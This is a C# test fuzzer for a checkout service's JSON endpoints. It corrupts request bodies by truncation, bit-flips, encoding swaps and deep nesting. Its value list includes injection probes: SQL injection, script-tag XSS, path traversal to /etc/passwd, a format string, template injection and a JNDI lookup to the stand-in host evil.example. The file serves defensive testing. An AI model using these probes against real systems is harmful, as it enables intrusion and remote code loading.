using System.Text;
using System.Text.Json.Nodes;

namespace Checkout.EndToEndTests.Fuzzing;

/// <summary>Bodies that began as an example and came to harm.</summary>
internal sealed class HostileJson(Random random)
{
    private const string Hole = "«hole»";

    /// <summary>A character a byte, so that bytes that are no text can be written, too.</summary>
    private static readonly Encoding Latin = Encoding.Latin1;

    private static readonly string[] Values =
    [
        "null", "true", "false", "0", "-0", "-0.0", "-1", "1", "2", "1.5", "1e2", "1e400", "-1e400", "1E-400", "99999999999999999999",
        "9223372036854775808", "1.0000000000000000000000000000000001", "0x10", "NaN", "01", "+1", ".5", "1.", "-", "",
        "\"\"", "\" \"", "\"0\"", "\"1\"", "\"-1\"", "\"1e5\"", "\"999\"", "\"1000\"", "\"1 \"", "\"MUG-TIDE\"", "\"mug-tide\"",
        """
        "\u0000"
        """,
        """
        "MUG\u0000TIDE"
        """,
        """
        "\ud800"
        """,
        """
        "\udc00\ud800"
        """,
        """
        "\ud83d\ude00"
        """,
        """
        "\u202e1\u202c"
        """,
        """
        "\x41"
        """,
        """
        "\u00"
        """,
        "\"\0\"", "\"\r\n\"", "\"\u00C0\u00FF\"", "\"\u00ED\u00A0\u0080\"", "\"\u00F4\u0090\u0080\u0080\"", "\"\u00E2\u0080\u00AE1\"",
        "\"\u00EF\u00BC\u0091\"", "\u00FF\u00FE", "\"' or 1=1 --\"", "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"", "\"%00%n%s\"",
        "\"${jndi:ldap://evil.example}\"", "\"{{7*7}}\"", "[]", "{}", "[[]]", "[{}]", "[null]", "[1]", "{\"id\":\"MUG-TIDE\"}",
    ];

    private static readonly Func<byte[], Random, byte[]>[] Harms =
    [
        (body, random) => body[..random.Next(body.Length + 1)],
        (body, _) => [0xEF, 0xBB, 0xBF, .. body],
        (body, _) => [.. body, .. body],
        (body, _) => [.. body, 0],
        (body, _) => [.. body, (byte)','],
        (_, _) => [],
        (_, _) => "  \r\n\t "u8.ToArray(),
        (_, random) => Noise(random, random.Next(4096)),
        (body, _) => Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(body)),
        (body, _) => Encoding.UTF32.GetBytes(Encoding.UTF8.GetString(body)),
        (body, _) => [.. "/* a comment */"u8, .. body],
        (body, random) => Turned(body, random),
        (body, random) => Turned(Turned(body, random), random),
        (body, random) => [.. body, .. Enumerable.Repeat((byte)' ', random.Next(70_000))],
        (body, _) => [(byte)'[', .. body, (byte)']'],
    ];

    /// <summary>The example, mostly with something in it replaced, doubled or destroyed.</summary>
    public byte[] Of(string example) => random.Next(10) switch
    {
        0 => Encoding.UTF8.GetBytes(example),
        <= 6 => Replaced(example),
        7 => Doubled(example),
        _ => Harms[random.Next(Harms.Length)](random.Next(2) == 0 ? Encoding.UTF8.GetBytes(example) : Replaced(example), random),
    };

    private static byte[] Noise(Random random, int length)
    {
        var noise = new byte[length];
        random.NextBytes(noise);
        return noise;
    }

    private static byte[] Turned(byte[] body, Random random)
    {
        var turned = body.ToArray();
        if (turned.Length > 0)
        {
            turned[random.Next(turned.Length)] ^= (byte)(1 << random.Next(8));
        }

        return turned;
    }

    private byte[] Replaced(string example)
    {
        var root = JsonNode.Parse(example)!;
        var places = new List<JsonNode>();
        Collect(root, places);
        places[random.Next(places.Count)].ReplaceWith(Hole);
        var quoted = JsonValue.Create(Hole).ToJsonString();
        return Latin.GetBytes((root.Parent is null ? root.ToJsonString() : quoted).Replace(quoted, Value(), StringComparison.Ordinal));
    }

    /// <summary>A member twice, the second time with something else.</summary>
    private byte[] Doubled(string example)
    {
        var root = JsonNode.Parse(example)!.AsObject();
        var name = root.ElementAt(random.Next(root.Count)).Key;
        var text = root.ToJsonString();
        return Latin.GetBytes($"{text[..^1]},{JsonValue.Create(name).ToJsonString()}:{Value()}}}");
    }

    private string Value() => random.Next(12) switch
    {
        0 => new string('[', random.Next(1, 30_000)),
        1 => Nested(random.Next(1, 200)),
        2 => $"\"{new string('a', random.Next(1, 66_000))}\"",
        3 => $"[{string.Join(',', Enumerable.Repeat("""{"id":"MUG-TIDE","quantity":1}""", random.Next(1, 300)))}]",
        4 => new string('9', random.Next(1, 5_000)),
        _ => Values[random.Next(Values.Length)],
    };

    private static string Nested(int depth) =>
        $"{string.Concat(Enumerable.Repeat("{\"a\":[", depth))}1{string.Concat(Enumerable.Repeat("]}", depth))}";

    /// <summary>Everything below the root.</summary>
    private static void Collect(JsonNode node, List<JsonNode> places)
    {
        var children = node switch
        {
            JsonObject members => members.Select(member => member.Value),
            JsonArray items => items,
            _ => [],
        };
        foreach (var child in children.OfType<JsonNode>())
        {
            places.Add(child);
            Collect(child, places);
        }
    }
}
